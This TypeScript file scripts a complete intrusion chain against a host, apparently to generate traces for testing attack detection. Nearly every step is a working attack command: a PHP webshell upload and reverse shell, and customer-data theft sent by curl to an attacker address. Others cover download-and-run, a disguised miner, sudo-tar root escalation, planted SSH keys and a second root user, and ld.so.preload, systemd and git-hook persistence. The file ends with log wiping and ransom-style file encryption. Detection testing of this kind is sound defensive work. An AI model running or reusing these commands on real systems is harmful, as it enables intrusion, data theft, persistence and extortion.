/** An intrusion into host-b, step by step: from an upload that should not run to a host that belongs to somebody else. */
import { setTimeout as sleep } from 'node:timers/promises'
import { ask, run, type } from './outside.ts'

const ATTACKER = '198.51.100.200'
/** Between two steps, so that what a step leaves running falls into its own time. */
const PAUSE_MS = 2500

export interface Step {
  readonly name: string
  readonly what: string
  /** Regular expression that one edge of the step matches, printed as `from->to`. */
  readonly leadsTo: string
  act(): Promise<unknown>
}

/** @param keyFile the attacker's own key; its public half beside it with `.pub` */
export function stepsOf(keyFile: string, publicKey: string): readonly Step[] {
  let shell = ''
  const inject = (command: string): Promise<string> =>
    ask({ from: ATTACKER, path: `/${shell}?c=${encodeURIComponent(command)}` })
  /** As root, by what the web server may do with sudo. */
  const asRoot = (command: string): Promise<string> =>
    inject(
      `sudo -n tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=${quote(`sh -c ${quote(command)}`)}`,
    )
  const login = (lines: readonly string[]): Promise<string> =>
    type({ user: 'root', from: ATTACKER, keyFile }, lines)
  const step = (name: string, what: string, leadsTo: RegExp, act: () => Promise<unknown>): Step => ({
    name,
    what,
    leadsTo: leadsTo.source.replaceAll(String.raw`\/`, '/'),
    act,
  })
  return [
    step('webshell-upload', 'a PHP file instead of a photo', /uploads\/.*php/, async () => {
      const file = { name: 'me.php', content: '<?php system($_GET["c"]);' }
      shell = await ask({ from: ATTACKER, path: '/upload.php', file })
    }),
    step(
      'webshell-use',
      'php-fpm runs a shell for id, uname, cat /etc/passwd',
      /\/usr\/bin\/(id|uname|cat|ls|dash)/,
      () => inject('id; uname -a; cat /etc/passwd; ls -la /home'),
    ),
    step(
      'php-reverse-shell',
      'php connects to 203.0.113.166:4444 and gives it a shell',
      /203\.0\.113\.166|\/usr\/bin\/dash/,
      () =>
        inject(
          `timeout 5 php -r '$s=fsockopen("203.0.113.166",4444);proc_close(proc_open("sh -i",[$s,$s,$s],$p));'`,
        ),
    ),
    step(
      'loot',
      'the customers are copied out of the database into a hidden folder',
      /\/tmp\/\.cache|psql/,
      () =>
        inject(
          `mkdir -p /tmp/.cache; PGPASSWORD=shop psql -h 127.0.0.1 -U shop shop -c "\\copy customers to /tmp/.cache/c.csv"`,
        ),
    ),
    step(
      'exfiltration',
      'the loot is packed and sent by curl to an address without a name',
      /198\.51\.100\.200|\/usr\/bin\/(curl|tar)/,
      () =>
        inject(
          'tar -czf /tmp/.cache/c.tgz -C /tmp/.cache c.csv; curl -s -m 3 -F f=@/tmp/.cache/c.tgz http://198.51.100.200:8080/u',
        ),
    ),
    step(
      'miner',
      'perl under the name of a system daemon asks a mining pool for work',
      /systemd-journald/,
      () =>
        inject(
          `cp /usr/bin/perl /dev/shm/systemd-journald; timeout 3 /dev/shm/systemd-journald -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.190:14444");print <$s>'`,
        ),
    ),
    step(
      'download-and-run',
      'curl fetches a script from a new name, which runs',
      /\/var\/tmp\/\.u|drop\.evil/,
      () =>
        inject(
          'curl -s -m 3 -o /var/tmp/.u http://drop.evil.example:8080/u; chmod +x /var/tmp/.u; /var/tmp/.u',
        ),
    ),
    step('user-crontab', 'the web server gets a crontab', /crontab/, () =>
      inject(`echo '0 4 1 1 * /var/tmp/.u' | crontab -`),
    ),
    step(
      'database-shell',
      'the database superuser has postgres run a program',
      /postgres.*->.*\/usr\/bin\/(dash|curl|id)/,
      () =>
        asRoot(
          `cd /; setpriv --reuid postgres --clear-groups psql -c "create temp table t(l text); copy t from program 'id; curl -s -m 3 http://198.51.100.200:8080/db'"`,
        ),
    ),
    step(
      'shadow',
      'tar with sudo runs a shell that reads /etc/shadow',
      /\/tmp\/\.cache\/s|\/usr\/bin\/tar.*->.*\/usr\/bin\/dash/,
      () => asRoot('cat /etc/shadow >/tmp/.cache/s; chmod 644 /tmp/.cache/s'),
    ),
    step('ssh-key', 'a key is planted for root', /\/root\/\.ssh/, () =>
      asRoot(
        `mkdir -p /root/.ssh; echo ${publicKey.trim()} >>/root/.ssh/authorized_keys; chmod 700 /root/.ssh`,
      ),
    ),
    step(
      'ssh-login',
      'somebody logs in as root with it and looks around',
      /proc::root:.*->.*\/usr\/bin\/(bash|id|w|last|find|head)/,
      () => login(['id', 'w', 'last | head -3', 'find / -xdev -perm -4000 -type f 2>/dev/null | head']),
    ),
    step('root-user', 'a second root is written into /etc/passwd', /\/etc\/(passwd|shadow)|chpasswd/, () =>
      login([`echo 'support:x:0:0::/root:/bin/bash' >>/etc/passwd`, `echo 'support:pw' | chpasswd`]),
    ),
    step('ld-preload', 'a library is loaded into every program', /ld\.so\.preload|libnss_cache/, () =>
      login([
        'cp /lib/x86_64-linux-gnu/libutil.so.1 /usr/lib/x86_64-linux-gnu/libnss_cache.so.2',
        'echo /usr/lib/x86_64-linux-gnu/libnss_cache.so.2 >/etc/ld.so.preload',
      ]),
    ),
    step('systemd-unit', 'a service that starts at boot', /\/etc\/systemd\/system/, () =>
      login([
        'mkdir -p /etc/systemd/system/multi-user.target.wants',
        String.raw`printf '[Service]\nExecStart=/var/tmp/.u\n' >/etc/systemd/system/dbus-cache.service`,
        'ln -s ../dbus-cache.service /etc/systemd/system/multi-user.target.wants/dbus-cache.service',
      ]),
    ),
    step('setcap', 'a copy of perl may become root, and does', /setcap|perl5\.34/, () =>
      login([
        'cp /usr/bin/perl /usr/local/bin/perl5.34',
        'setcap cap_setuid+ep /usr/local/bin/perl5.34',
        `setpriv --reuid worker --clear-groups /usr/local/bin/perl5.34 -e 'use POSIX; setuid(0); exec "id"'`,
      ]),
    ),
    step('kernel-module', 'an attempt to load a module', /insmod|kmod|nf_cache/, () =>
      login(['head -c 4096 /dev/urandom >/root/nf_cache.ko', 'insmod /root/nf_cache.ko']),
    ),
    step('git-hook', 'the hook that deploys gets another line', /post-receive/, () =>
      login([`echo 'curl -s http://198.51.100.200:8080/h | sh' >>/srv/git/site.git/hooks/post-receive`]),
    ),
    step('tunnel', 'ssh -R to the attacker', /203\.0\.113\.166|\/usr\/bin\/ssh/, () =>
      login(['timeout 3 ssh -o ConnectTimeout=2 -N -R 2222:127.0.0.1:22 -p 443 tunnel@203.0.113.166']),
    ),
    step(
      'log-tampering',
      'lines with the own address are cut out of logs',
      /auth\.log|access\.log|wtmp|\/usr\/bin\/sed/,
      () =>
        login([
          "sed -i '/198.51.100.200/d' /var/log/auth.log /var/log/apache2/access.log",
          ': >/var/log/wtmp',
        ]),
    ),
    step('history-wipe', 'no history is kept any more', /bash_history/, () =>
      login(['rm -f /root/.bash_history /home/ops/.bash_history', 'ln -s /dev/null /root/.bash_history']),
    ),
    step('ransom', 'photos are encrypted and removed', /\.locked|README-UNLOCK|openssl/, () =>
      login([
        'for f in $(find /srv/www/shop/shared/uploads -name "*.jpg" | head -20); do openssl enc -aes-256-cbc -pbkdf2 -k x -in $f -out $f.locked && rm $f; done',
        'echo pay >/srv/www/shop/shared/uploads/README-UNLOCK.txt',
      ]),
    ),
  ]
}

/** Does one step after the other and says when each begins. */
export async function attack(steps: readonly Step[], mark: (step: Step) => void): Promise<void> {
  for (const step of steps) {
    mark(step)
    await step.act()
    await sleep(PAUSE_MS)
  }
}

const quote = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`

/** A key pair at this path. @throws Error without ssh-keygen */
export const makeKey = (path: string): Promise<void> =>
  run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'key', '-f', path])
